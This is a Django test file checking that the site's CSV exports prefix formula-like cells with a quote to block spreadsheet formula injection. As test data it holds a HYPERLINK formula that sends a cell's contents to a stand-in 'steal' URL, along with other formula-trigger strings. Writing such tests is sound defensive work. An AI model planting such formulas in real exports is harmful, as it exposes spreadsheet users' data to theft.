"""Every CSV the site writes keeps spreadsheets from running a cell as a formula (issue 9, point 11).

Text starting with =, +, -, @, a tab or a carriage return gets a single quote in front
(source4networks.csvsafe.safe_cell); plain numbers, such as a negative score, stay numbers.
The writers: a member's results CSV, the offline ``score_responses`` output (respondents come
from the file), a round's aggregate CSV (keys only, validated), and the admin's review report
export.
"""

import csv
import io
import tempfile
from datetime import timedelta
from io import StringIO
from pathlib import Path

from django.contrib.auth.models import Group
from django.core.management import call_command
from django.test import SimpleTestCase, TestCase
from django.utils import timezone

from diagnostics.factories import ResponseFactory, ScaleFactory, SurveyDataFactory, current_version
from diagnostics.instrument_format import SHIPPED_DIR
from diagnostics.responses_csv import scores_csv
from diagnostics.scoring import score_respondent
from resources.factories import ResourcePageFactory
from source4networks.csvsafe import safe_cell
from source4networks.factories import UserFactory

FORMULA = '=HYPERLINK("http://example.org/steal?"&A1,"Click")'


def rows_of(text):
    return list(csv.reader(io.StringIO(text)))


class SafeCellTests(SimpleTestCase):
    def test_text_a_spreadsheet_would_run_gets_a_quote(self):
        for value in ["=1+1", "+cmd", "-x", "@SUM(A1)", "\tHidden", "\r=1", "-", "+", "=", "-1-1", "+44 20 7946 0000"]:
            self.assertEqual(safe_cell(value), "'" + value, repr(value))

    def test_plain_numbers_and_other_text_are_left_alone(self):
        for value in ["-1.50", "+2", "-0.25", "-.5", "3.33", "", "Network leadership", "a=b", "1-2", "'=quoted"]:
            self.assertEqual(safe_cell(value), value, repr(value))
        for value in [None, -2, 3.5, timezone.now()]:
            self.assertIs(safe_cell(value), value)


class DiagnosticsCSVTests(TestCase):
    def test_a_respondent_is_neutralised_but_a_negative_score_stays_a_number(self):
        data = SurveyDataFactory(scale=ScaleFactory(min=-2, max=2))
        answers = {item.key: 2 if item.reverse else -2 for item in data.items}
        text = scores_csv(data, [(FORMULA, score_respondent(data, answers)), ("-2", score_respondent(data, answers))])
        rows = rows_of(text)
        self.assertEqual(rows[1][:3], ["'" + FORMULA, "a", "-2.00"])
        self.assertEqual(rows[-1][:3], ["-2", "overall", "-2.00"])  # "-2" is a plain number

    def test_a_members_results_csv_neutralises_their_username(self):
        member = UserFactory(username="@alice")
        response = ResponseFactory(user=member, version=current_version("network-health-scorecard"))
        self.client.force_login(member)
        text = self.client.get(f"{response.get_absolute_url()}results.csv").content.decode()
        self.assertEqual({row[0] for row in rows_of(text)[1:]}, {"'@alice"})

    def test_score_responses_neutralises_respondents_from_the_file(self):
        instrument = SHIPPED_DIR / "network-health-scorecard.json"
        keys = ["purpose-1"]
        with tempfile.TemporaryDirectory() as folder:
            responses = Path(folder) / "responses.csv"
            responses.write_text(f"respondent,{keys[0]}\n+1-1,4\n@bob,3\n")
            out = StringIO()
            call_command("score_responses", str(instrument), str(responses), stdout=out)
        respondents = {row[0] for row in rows_of(out.getvalue())[1:]}
        self.assertEqual(respondents, {"'+1-1", "'@bob"})


class ReviewReportExportTests(TestCase):
    def test_a_page_title_is_neutralised_in_the_export(self):
        ResourcePageFactory(title="=1+1 checklist", review_by=timezone.localdate() - timedelta(days=3))
        editor = UserFactory(username="editor")
        editor.groups.add(Group.objects.get(name="Editors"))
        self.client.force_login(editor)
        export = self.client.get("/admin/reports/review-overdue/", {"export": "csv"})
        rows = rows_of(b"".join(export.streaming_content).decode())
        self.assertEqual(rows[0][0], "Title")
        self.assertEqual(rows[1][0], "'=1+1 checklist")
